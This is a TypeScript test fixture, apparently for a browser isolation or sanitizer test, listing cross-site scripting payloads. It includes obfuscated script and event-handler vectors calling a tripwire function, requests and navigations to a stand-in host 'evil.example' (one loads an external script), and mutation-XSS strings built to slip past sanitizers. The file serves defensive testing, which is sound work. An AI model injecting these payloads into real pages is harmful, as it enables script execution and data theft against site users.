/** The detector's tripwire in every frame; whatever calls it is a script of a diagram that ran. */
const call = 'hostilePlan()';
const evil = 'https://evil.example';
const runs = (name: string, markup: string): Payload => ({ name, markup, does: 'script' });
const asks = (name: string, markup: string): Payload => ({ name, markup, does: 'request' });
const leads = (name: string, markup: string): Payload => ({ name, markup, does: 'navigation' });

/** Markup that does harm on a page without walls, which isolation.browser.ts proves of each. */
export interface Payload {
  readonly name: string;
  readonly markup: string;
  readonly does: 'script' | 'request' | 'navigation';
}

/** Scripts in every dress. */
const scripts: readonly Payload[] = [
  runs('script', `<script>${call}</script>`),
  runs('script in capitals', `<ScRiPt >${call}</sCrIpT>`),
  runs('script in SVG', `<svg><script>${call}</script></svg>`),
  runs('image that fails', `<img src=x onerror=${call}>`),
  runs('image without spaces', `<img/src/onerror=${call}>`),
  runs('SVG that loads', `<svg onload=${call}></svg>`),
  runs('SVG without spaces', `<svg/onload=${call}>`),
  runs('animation that begins', `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`),
  runs('foreign object', `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`),
  runs('details that open', `<details open ontoggle=${call}>x</details>`),
  runs('field that is focused', `<input autofocus onfocus=${call}>`),
  runs('focus of anything', `<b id=x tabindex=1 autofocus onfocus=${call}>x</b>`),
  runs('source that fails', `<video><source onerror=${call}></video>`),
  runs('sound that fails', `<audio src=x onerror=${call}></audio>`),
  runs('style that is loaded', `<style onload=${call}></style>`),
  runs('transition that ends', `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${call}>x</b>`),
  runs('frame of text', `<iframe srcdoc="<script>${call}</script>"></iframe>`),
  runs('frame of script', `<iframe src="javascript:${call}"></iframe>`),
  runs('frame that loads', `<iframe onload=${call}></iframe>`),
  runs('link of script', `<a href="javascript:${call}">x</a>`),
  runs('link of script with a tab', `<a href="java&#9;script:${call}">x</a>`),
  runs('link of script in entities', `<a href="&#106;avascript:${call}">x</a>`),
  runs('link of script in SVG', `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`),
  runs('button with its own action', `<form><button formaction="javascript:${call}">x</button></form>`),
  runs('title that closes noscript', `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`),
  runs('style that ends in SVG', `<svg></p><style><a id="</style><img src=x onerror=${call}>">`),
  runs('comment that ends early', `<!--><img src=x onerror=${call}>-->`),
  runs('text field that closes', `<textarea></textarea><img src=x onerror=${call}>`),
  runs('shadow', `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`),
];

const requests: readonly Payload[] = [
  asks('image', `<img src="${evil}/i.png">`),
  asks('image in sizes', `<img srcset="${evil}/s.png 1x">`),
  asks('image in SVG', `<svg><image href="${evil}/v.png" width=9 height=9></image></svg>`),
  asks('image of a filter', `<svg width=9 height=9><filter id=f><feImage href="${evil}/f.png"></feImage></filter><rect filter="url(#f)" width=9 height=9></rect></svg>`),
  asks('image of a field', `<input type=image src="${evil}/n.png">`),
  asks('poster', `<video poster="${evil}/p.png"></video>`),
  asks('film', `<video src="${evil}/m.mp4" autoplay></video>`),
  asks('script from elsewhere', `<script src="${evil}/s.js"></script>`),
  asks('style sheet', `<link rel=stylesheet href="${evil}/l.css">`),
  asks('style sheet that imports', `<style>@import "${evil}/t.css";</style>`),
  asks('background in a style', `<b style="background:url(${evil}/b.png)">x</b>`),
  asks('background with an escape', `<b style="background:\\75rl(${evil}/e.png)">x</b>`),
  asks('background of a table', `<table background="${evil}/t.png"><tr><td>x</table>`),
  asks('font', `<style>@font-face{font-family:evil;src:url(${evil}/f.woff)}</style><b style="font-family:evil">x</b>`),
];

const navigations: readonly Payload[] = [
  leads('object', `<object data="${evil}/o.svg"></object>`),
  leads('embedding', `<embed src="${evil}/e.svg">`),
  leads('frame', `<iframe src="${evil}/"></iframe>`),
  leads('refresh', `<meta http-equiv=refresh content="0;url=${evil}/r">`),
  leads('link', `<a href="${evil}/a">x</a>`),
  leads('link to the top', `<a href="${evil}/t" target=_top>x</a>`),
  leads('form', `<form action="${evil}/f"><button>x</button></form>`),
];

export const payloads: readonly Payload[] = [...scripts, ...requests, ...navigations];

/** Harmless as they are; a cleaner that parses, writes and parses again may make scripts of them. */
export const mutations: readonly string[] = [
  `<math><mtext><style><img src=x onerror=${call}></style></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${call}>"></desc></svg>`,
];
